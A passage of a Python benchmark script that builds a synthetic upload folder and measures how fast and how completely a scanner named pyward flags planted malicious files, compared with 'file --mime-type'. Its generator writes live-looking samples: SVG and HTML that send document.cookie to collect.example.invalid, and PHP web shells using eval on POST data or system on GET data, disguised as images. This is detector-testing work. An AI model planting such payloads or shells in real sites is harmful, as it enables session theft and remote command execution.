                       self.jpeg(max(1000, size - buf.tell() - 1500)))
        return buf.getvalue()

    # Text --------------------------------------------------------------------
    def text(self, size: int) -> bytes:
        out, n = [], 0
        while n < size:
            line = self.words(self.r.randint(5, 16)).capitalize() + "."
            out.append(line)
            n += len(line) + 1
        return ("\n".join(out) + "\n").encode()

    def csv(self, size: int) -> bytes:
        rows = ["id,date,customer,email,city,amount,currency,status"]
        n = len(rows[0])
        i = self.r.randint(1000, 90000)
        while n < size:
            f, last = self.r.choice(FIRST), self.r.choice(LAST)
            i += 1
            row = (f"{i},{self.r.randint(2019, 2025)}-{self.r.randint(1, 12):02}-{self.r.randint(1, 28):02},"
                   f"{f} {last},{f.lower()}.{last.lower()}@example.com,{self.r.choice(CITIES)},"
                   f"{self.r.randint(1, 99999) / 100:.2f},EUR,{self.r.choice(['paid', 'pending', 'refunded'])}")
            rows.append(row)
            n += len(row) + 1
        return ("\n".join(rows) + "\n").encode()

    def json(self, size: int) -> bytes:
        recs, n = [], 0
        while n < size:
            rec = {"id": self.r.randint(1, 10**6), "name": f"{self.r.choice(FIRST)} {self.r.choice(LAST)}",
                   "city": self.r.choice(CITIES), "tags": self.r.sample(WORDS[:40], 3),
                   "total": round(self.r.uniform(1, 900), 2), "note": self.words(self.r.randint(3, 12))}
            recs.append(rec)
            n += 120
        return json.dumps({"version": 1, "items": recs}, indent=1).encode()

    def svg(self, size: int, active: bool = False) -> bytes:
        w, h = self.r.choice([(24, 24), (64, 64), (128, 128), (512, 512), (800, 600)])
        onload = active and self.r.random() < 0.3
        head = (f'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
                f'width="{w}" height="{h}" viewBox="0 0 {w} {h}"'
                + (' onload="fetch(\'https://collect.example.invalid/?c=\'+document.cookie)"' if onload else "")
                + f">\n<title>{self.words(2)}</title>\n")
        parts, n = [head], len(head)
        while n < size:
            pick = self.r.random()
            color = "#%06x" % self.r.getrandbits(24)
            if pick < 0.6:
                pts = " ".join(f"L{self.r.uniform(0, w):.2f} {self.r.uniform(0, h):.2f}"
                               for _ in range(self.r.randint(3, 30)))
                el = f'<path fill="{color}" d="M{self.r.uniform(0, w):.2f} {self.r.uniform(0, h):.2f} {pts} Z"/>\n'
            elif pick < 0.8:
                el = (f'<rect x="{self.r.randint(0, w)}" y="{self.r.randint(0, h)}" width="{self.r.randint(1, w)}" '
                      f'height="{self.r.randint(1, h)}" rx="2" fill="{color}"/>\n')
            else:
                el = (f'<circle cx="{self.r.randint(0, w)}" cy="{self.r.randint(0, h)}" r="{self.r.randint(1, w)}" '
                      f'fill="{color}"/>\n')
            parts.append(el)
            n += len(el)
            if active and not onload and len(parts) == 3:
                parts.append('<script type="text/javascript"><![CDATA[\n'
                             "  new Image().src = 'https://collect.example.invalid/?c='\n"
                             "      + encodeURIComponent(document.cookie);\n"
                             "]]></script>\n")
        if active and not onload and len(parts) < 4:
            parts.append("<script>alert(document.domain)</script>\n")
        parts.append("</svg>\n")
        return "".join(parts).encode()

    def html(self, size: int) -> bytes:
        title = self.words(4).title()
        head = (f"<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>{title}</title>\n"
                "<style>body{font-family:sans-serif;max-width:640px;margin:auto}</style>\n</head>\n<body>\n"
                f"<h1>{title}</h1>\n")
        parts, n = [head], len(head)
        while n < size:
            p = f"<p>{self.words(self.r.randint(20, 60))}</p>\n"
            parts.append(p)
            n += len(p)
        parts.append("</body>\n</html>\n")
        return "".join(parts).encode()

    def html_named_image(self, size: int) -> bytes:
        body = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Profile</title></head><body>\n"
                "<script>document.location='https://collect.example.invalid/?c='+document.cookie</script>\n")
        pad = "".join(f"<p>{self.words(20)}</p>\n" for _ in range(max(0, (size - len(body)) // 140)))
        return (body + pad + "</body></html>\n").encode()

    def php_named_image(self, size: int) -> bytes:
        body = self.r.choice(["<?php @eval($_POST['cmd']); ?>\n", "<?php system($_GET['c']); ?>\n",
                              "<?php\n$f = $_FILES['f'];\nmove_uploaded_file($f['tmp_name'], $f['name']);\n?>\n"])
        pad = "".join(f"// {self.words(12)}\n" for _ in range(max(0, (size - len(body)) // 80)))
        return (body[:5] + "\n" + pad + body[5:]).encode()

    def make(self, it: Item) -> bytes:
        k, s = it.kind, it.size
        if k == "jpeg":
            return self.camera_jpeg(s, gps=False) if self.r.random() < 0.15 else self.jpeg(s)
        if k == "jpeg-gps":
            return self.camera_jpeg(s, gps=True)
        if k == "double-extension":
            return self.jpeg(s)
        if k == "jpeg-zip-polyglot":
            return self.polyglot(s)
        if k in ("png", "png-as-jpg"):
            return self.png(s)
        if k == "gif":
            return self.gif(s)
        if k == "webp":
            return self.webp(s)
        if k == "pdf":
            return self.pdf(s)
        if k == "pdf-js":
            return self.pdf(s, "js")
        if k == "pdf-launch":
            return self.pdf(s, "launch")
        if k == "zip":
            return self.zip(s)
        if k == "zip-dotdot":
            return self.zip(s, "dotdot")
        if k == "zip-symlink":
            return self.zip(s, "symlink")
        if k == "docx":
            return self.docx(s)
        if k == "docm-macros":
            return self.docx(s, macros=True)
        if k == "txt":
            return self.text(s)
        if k == "csv":
            return self.csv(s)
        if k == "json":
            return self.json(s)
        if k == "svg":
            return self.svg(s)
        if k == "svg-script":
            return self.svg(s, active=True)
        if k == "html-page":
            return self.html(s)
        if k == "html-named-image":
            return self.html_named_image(s)
        if k == "php-named-image":
            return self.php_named_image(s)
        if k == "empty":
            return b""
        raise ValueError(k)


# --------------------------------------------------------------------------
# The store
# --------------------------------------------------------------------------

def generate(store: Path, items: list[Item], seed: int) -> int:
    content = Content(seed + 1)
    made: set[Path] = set()
    total = 0
    for i, it in enumerate(items):
        path = store / it.rel
        if path.parent not in made:
            path.parent.mkdir(parents=True, exist_ok=True)
            made.add(path.parent)
        data = content.make(it)
        path.write_bytes(data)
        it.size = len(data)
        total += len(data)
        if (i + 1) % 2000 == 0:
            log(f"  {i + 1}/{len(items)} files, {total / MIB:.0f} MiB")
    return total


def prepare_store(root: Path, files: int, size_mb: float, seed: int) -> tuple[Path, list[Item], dict]:
    """``root/media`` (generated, or reused when ``root/uploads-bench.json`` has the same parameters)."""
    params = {"format": STORE_FORMAT, "files": files, "size_mb": size_mb, "seed": seed}
    store, marker = root / STORE_NAME, root / MARKER
    if marker.is_file() and store.is_dir():
        try:
            meta = json.loads(marker.read_text())
        except (OSError, ValueError):
            meta = {}
        if meta.get("params") == params:
            items = [Item(**d) for d in meta["items"]]
            log(f"reusing the store {store} ({len(items)} files, generated in {meta['generate_s']} s)")
            return store, items, {"bytes": meta["bytes"], "generate_s": meta["generate_s"], "reused": True}
    if root.exists() and any(p.name not in (STORE_NAME, MARKER) for p in root.iterdir()):
        raise SystemExit(f"{root} holds other files than {STORE_NAME}/ and {MARKER}: not touching it")
    if store.exists() and not marker.exists() and any(store.iterdir()):
        raise SystemExit(f"{store} exists without {marker}: not generated by this script, not touching it")
    marker.unlink(missing_ok=True)
    if store.exists():
        shutil.rmtree(store)
    store.mkdir(parents=True)
    log(f"generating {files} files, about {size_mb:g} MiB, seed {seed}, in {store}")
    t0 = time.perf_counter()
    items = plan_store(files, size_mb, seed)
    total = generate(store, items, seed)
    gen_s = round(time.perf_counter() - t0, 2)
    log(f"generated {len(items)} files, {total / MIB:.1f} MiB in {gen_s} s")
    marker.write_text(json.dumps({"params": params, "bytes": total, "generate_s": gen_s,
                                  "items": [asdict(it) for it in items]}) + "\n")
    return store, items, {"bytes": total, "generate_s": gen_s, "reused": False}


def warm_page_cache(store: Path, items: list[Item]) -> None:
    for it in items:
        try:
            with open(store / it.rel, "rb") as f:
                while f.read(1 << 20):
                    pass
        except OSError:
            pass


# --------------------------------------------------------------------------
# Runs
# --------------------------------------------------------------------------

def tool_version(argv: list[str]) -> str:
    try:
        r = subprocess.run([*argv, "--version"], text=True, capture_output=True, timeout=60, check=False)
    except (OSError, subprocess.TimeoutExpired):
        return "?"
    out = (r.stdout or r.stderr).strip().splitlines()
    return out[0].strip() if out else "?"


def run(argv: list[str], cwd: Path, capture: bool) -> tuple[float, int, bytes, str]:
    """Wall time, exit code, standard output (drained through a pipe when ``capture``), stderr's tail."""
    with tempfile.TemporaryFile() as err:
        t0 = time.perf_counter()
        proc = subprocess.Popen(argv, cwd=cwd, stdin=subprocess.DEVNULL,
                                stdout=subprocess.PIPE if capture else subprocess.DEVNULL, stderr=err)
        out = proc.stdout.read() if capture and proc.stdout else b""
        code = proc.wait()
        wall = time.perf_counter() - t0
        if proc.stdout:
            proc.stdout.close()
        err.seek(0)
        return wall, code, out, err.read().decode("utf-8", "replace")[-2000:]


def parse_file_output(out: bytes) -> dict[str, str]:
    """``rel: mime`` lines -> {rel: mime}."""
    res = {}
    for line in out.decode("utf-8", "replace").splitlines():
        path, sep, mime = line.rpartition(": ")
        if sep:
            res[path] = mime.strip()
    return res


def finding_path(f: dict) -> str:
    p = f.get("path")
    if p is None:
        p = (f.get("location") or {}).get("path", "")
    return str(p).replace("\\", "/").removeprefix("./")


def parse_pyward(path: Path) -> list[dict]:
    data = json.loads(path.read_text())
    if not isinstance(data, dict) or not isinstance(data.get("findings"), list):
        raise TypeError("no findings list")
    return [{"rule": str(f["rule"]), "path": finding_path(f), "message": str(f.get("message", ""))}
            for f in data["findings"]]


def run_tools(pyward: str | None, store: Path, items: list[Item], runs: int, work: Path) -> dict[str, dict]:
    listfile = work / "files.txt"
    listfile.write_text("".join(it.rel + "\n" for it in sorted(items, key=lambda it: it.rel)))
    empty = work / "empty"
    empty.mkdir()
    plan = {"file": ([FILE_BIN, "--mime-type", "-f", str(listfile)], store, True, {0})}
    if pyward:
        out_json = work / "pyward.json"
        plan["pyward"] = ([pyward, "scan", "--no-progress", "--offline", "--uploads", store.name, "--select", "UP1",
                           "--format", "json", "-o", str(out_json), str(empty)], store.parent, False, {0, 1})
    res = {name: {"name": name, "command": " ".join(argv), "samples_s": [], "output": None}
           for name, (argv, *_rest) in plan.items()}
    for i in range(runs):
        for name, (argv, cwd, capture, ok) in plan.items():
            r = res[name]
            if "error" in r:
                continue
            if i == 0:
                log(f"$ (cd {cwd} && {' '.join(argv)})")
            if name == "pyward":
                out_json.unlink(missing_ok=True)
            try:
                wall, code, out, err = run(argv, cwd, capture)
            except OSError as e:
                r["error"] = f"could not start: {e}"
                continue
            if code not in ok:
                r["error"] = f"exit code {code}: {err.strip()}"
                continue
            try:
                got = parse_file_output(out) if name == "file" else parse_pyward(out_json)
            except (OSError, ValueError, KeyError, TypeError) as e:
                r["error"] = f"unreadable output ({e}); stderr: {err.strip()[-800:]}"
                continue
            if r["output"] is None:
                r["output"] = got
            r["samples_s"].append(round(wall, 4))
            log(f"{name} run {i + 1}/{runs}: {wall:.3f} s, exit {code}, {len(got)} "
                + ("files typed" if name == "file" else "findings"))
    for r in res.values():
        if r["samples_s"]:
            r["best_s"] = min(r["samples_s"])
        if "error" in r:
            log(f"{r['name']} FAILED: {r['error']}")
    return res


# --------------------------------------------------------------------------
# Report
# --------------------------------------------------------------------------

def matches(path: str, rel: str) -> bool:
    full = f"{STORE_NAME}/{rel}"
    return path == full or path.endswith("/" + full) or path == rel


def detection(findings: list[dict], items: list[Item]) -> dict:
    by_name: dict[str, list[dict]] = defaultdict(list)
    for f in findings:
        by_name[f["path"].rsplit("/", 1)[-1]].append(f)
    planted = [it for it in items if it.rule]
    per_kind: dict[str, dict] = {}
    missed: list[tuple[Item, list[str]]] = []
    matched_ids: set[int] = set()
    for it in planted:
        name = it.rel.rsplit("/", 1)[-1]
        at = [f for f in by_name.get(name, []) if matches(f["path"], it.rel)]
        matched_ids.update(id(f) for f in at)
        row = per_kind.setdefault(it.kind, {"rule": it.rule, "planted": 0, "found": 0, "other_rule_only": 0})
        row["planted"] += 1
        if any(f["rule"] == it.rule for f in at):
            row["found"] += 1
        else:
            if at:
                row["other_rule_only"] += 1
            missed.append((it, sorted({f["rule"] for f in at})))
    outside = [f for f in findings if id(f) not in matched_ids]
    return {"per_kind": per_kind, "missed": missed, "outside": outside,
            "found": sum(r["found"] for r in per_kind.values()), "planted": len(planted)}


def fmt_s(v: float | None) -> str:
    return "n/a" if v is None else (f"{v:.3f} s" if v < 10 else f"{v:.1f} s")


def fmt_size(n: float) -> str:
    return f"{n / MIB / 1024:.2f} GiB" if n >= 1024 * MIB else f"{n / MIB:.1f} MiB"


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--pyward", default=str(REPO_ROOT / "target" / "release" / "pyward"),
                    help="the pyward binary (default target/release/pyward)")
    ap.add_argument("--runs", type=int, default=3, help="timed runs of each tool; the best counts (default 3)")
    ap.add_argument("--files", type=int, default=20_000, help="files in the store (default 20000)")
    ap.add_argument("--size-mb", type=float, default=1024, help="about how many MiB the store holds (default 1024)")
    ap.add_argument("--store", metavar="DIR", help="generate the store in DIR/media and keep it (reused while the "
                                                   "parameters are the same); default: a temporary folder, removed")
    ap.add_argument("--seed", type=int, default=SEED, help="seed of the generated store")
    ap.add_argument("--no-pyward", action="store_true", help="generate the store and time file only")
    ap.add_argument("--no-check", action="store_true", help="print only: exit 0 even when a target is missed")
    ap.add_argument("--json", action="store_true", help="also print the figures as one JSON object")
    args = ap.parse_args()
    if args.files < 100 or args.size_mb <= 0:
        ap.error("need --files >= 100 and --size-mb > 0")

    pyward = None
    if not args.no_pyward:
        pyward = (str(Path(args.pyward).resolve()) if os.sep in args.pyward
                  else (shutil.which(args.pyward) or args.pyward))
        if not (os.path.isfile(pyward) and os.access(pyward, os.X_OK)):
            print(f"ERROR: pyward binary {pyward} not found or not executable (cargo build --release)")
            return 1
    if not shutil.which(FILE_BIN):
        print("ERROR: `file` not found (apt-get install file)")
        return 1

    temp_root = None
    if args.store:
        root = Path(args.store).resolve()
    else:
        temp_root = Path(tempfile.mkdtemp(prefix="pyward-uploads-bench-"))
        root = temp_root
    try:
        store, items, store_stats = prepare_store(root, args.files, args.size_mb, args.seed)
        log("warming the page cache (reading every file)")
        warm_page_cache(store, items)
        versions = {"file": tool_version([FILE_BIN])}
        if pyward:
            versions["pyward"] = tool_version([pyward])
        runs = max(1, args.runs)
        with tempfile.TemporaryDirectory(prefix="pyward-uploads-bench-work-") as tmp:
            res = run_tools(pyward, store, items, runs, Path(tmp))
    finally:
        if temp_root is not None:
            shutil.rmtree(temp_root, ignore_errors=True)

    fr, pr = res["file"], res.get("pyward")
    failed_tools = [r["name"] for r in res.values() if r["output"] is None or "error" in r]
    file_t = fr.get("best_s")
    pw_t = pr.get("best_s") if pr else None
    ratio = file_t / pw_t if file_t and pw_t else None
    findings = (pr or {}).get("output") or []
    det = detection(findings, items)
    by_rule = Counter(f["rule"] for f in findings)

    # libmagic's view of each generated kind (the generator's check).
    mimes: dict[str, Counter] = defaultdict(Counter)
    file_out = fr.get("output") or {}
    for it in items:
        mimes[it.kind][file_out.get(it.rel, "(not reported)")] += 1

    def status(ok: bool) -> str:
        return "N/A" if failed_tools or not pr else ("PASS" if ok else "FAIL")

    targets = [
        {"target": f"pyward at least as fast as file --mime-type (file / pyward >= {RATIO_TARGET:g})",
         "value": "n/a" if ratio is None else f"{ratio:.2f}x",
         "status": status(ratio is not None and ratio >= RATIO_TARGET)},
        {"target": "pyward finds every planted file (a finding of the expected rule at the file)",
         "value": f"{det['found']}/{det['planted']}", "status": status(det["found"] == det["planted"])},
    ]

    # ---- report ----
    kinds_count = Counter(it.kind for it in items)
    kinds_bytes: Counter = Counter()
    for it in items:
        kinds_bytes[it.kind] += it.size
    total = store_stats["bytes"]
    n_planted = det["planted"]
    print()
    print(f"Store: {store}" + (" (temporary, removed)" if temp_root else ""))
    print(f"  {len(items)} files, {fmt_size(total)}; {n_planted} planted ({100 * n_planted / len(items):.1f} %); seed "
          f"{args.seed}; " + (f"reused (generated in {store_stats['generate_s']} s)" if store_stats["reused"]
                               else f"generated in {store_stats['generate_s']} s"))
    print(f"Machine: {platform.machine()} {os.cpu_count()} CPUs, {platform.system()} {platform.release()}, "
          f"Python {platform.python_version()}")
    print("Versions: " + "; ".join(f"{k} {v}" for k, v in versions.items()))
    for r in res.values():
        if "error" in r:
            print(f"ERROR: {r['name']} failed: {r['error']}")
    print()
    print("Kinds and what file --mime-type says of them:")
    print(f"  {'kind':<20} {'rule':<6} {'files':>6} {'size':>10}  {'as expected':>11}  other types")
    for kind in KINDS:
        if not kinds_count[kind]:
            continue
        k = KINDS[kind]
        seen = mimes[kind]
        others = ", ".join(f"{m} {n}" for m, n in seen.most_common() if m != k.mime)
        print(f"  {kind:<20} {k.rule or '':<6} {kinds_count[kind]:>6} {fmt_size(kinds_bytes[kind]):>10}  "
              f"{seen[k.mime]:>11}  {others}")
    print(f"  ({sum(kinds_bytes[k] for k in ('jpeg', 'png', 'gif', 'webp', 'pdf', 'png-as-jpg')) / max(1, total):.0%} "
          f"of the bytes in benign images and PDFs)")
    if pr:
        print()
        print("pyward findings by rule:")
        for rule, n in sorted(by_rule.items()):
            print(f"  {rule:<6} {n:>6}")
        if not by_rule:
            print("  (none)")
        print()
        print("Planted files found by pyward (a finding of the expected rule at the file):")
        print(f"  {'kind':<20} {'rule':<6} {'planted':>7} {'found':>6} {'missed':>6}  what")
        for kind, row in sorted(det["per_kind"].items(), key=lambda kv: (kv[1]["rule"], list(KINDS).index(kv[0]))):
            print(f"  {kind:<20} {row['rule']:<6} {row['planted']:>7} {row['found']:>6} "
                  f"{row['planted'] - row['found']:>6}  {KINDS[kind].what}"
                  + (f" ({row['other_rule_only']} reported under another rule only)" if row["other_rule_only"] else ""))
        for it, other in det["missed"][:30]:
            print(f"      missed  {STORE_NAME}/{it.rel}  {it.kind} ({it.rule})"
                  + (f", got {', '.join(other)}" if other else ""))
        if len(det["missed"]) > 30:
            print(f"      ... and {len(det['missed']) - 30} more")
        out = det["outside"]
        print()
        print(f"Findings on files that were not planted (false alarms?): {len(out)}")
        for rule, n in sorted(Counter(f["rule"] for f in out).items()):
            print(f"  {rule:<6} {n:>6}")
        for f in out[:20]:
            print(f"      {f['rule']}  {f['path']}: {f['message'][:100]}")
        if len(out) > 20:
            print(f"      ... and {len(out) - 20} more")
    print()
    print(f"Wall time (best of {runs}, warm page cache):")
    for r in res.values():
        print(f"  {r['name']:<8} {fmt_s(r.get('best_s')):>10}   runs: {', '.join(f'{s:.3f}' for s in r['samples_s'])}")
    print(f"  file / pyward: {'n/a' if ratio is None else f'{ratio:.2f}x'}")
    if pr:
        print()
        print("Targets:")
        for t in targets:
            print(f"  [{t['status']}] {t['target']}: {t['value']}")

    if args.json:
        result = {
            "date": _dt.datetime.now(_dt.timezone.utc).isoformat(timespec="seconds"),
            "machine": {"platform": platform.platform(), "cpus": os.cpu_count(), "python": platform.python_version()},
            "store": {"path": str(store), "files": len(items), "bytes": total, "seed": args.seed,
                      "generate_s": store_stats["generate_s"], "reused": store_stats["reused"],
                      "kinds": {k: {"files": kinds_count[k], "bytes": kinds_bytes[k], "file_mime": dict(mimes[k])}
                                for k in KINDS if kinds_count[k]}},
            "versions": versions,
            "runs": runs,
            "tools": {r["name"]: {"command": r["command"], "best_s": r.get("best_s"), "samples_s": r["samples_s"],
                                  "error": r.get("error")} for r in res.values()},
            "ratio_file_over_pyward": ratio,
            "pyward": None if not pr else {
                "by_rule": dict(sorted(by_rule.items())), "planted": det["per_kind"],
                "missed": [{"path": f"{STORE_NAME}/{it.rel}", "kind": it.kind, "rule": it.rule, "got": other}
                           for it, other in det["missed"]],
                "outside_planted": det["outside"]},
            "targets": targets,
        }
        print()
        print(json.dumps(result, indent=2))
    if failed_tools:
        return 1
    if args.no_check or not pr:
        return 0
    return 0 if all(t["status"] == "PASS" for t in targets) else 1


if __name__ == "__main__":
    sys.exit(main())
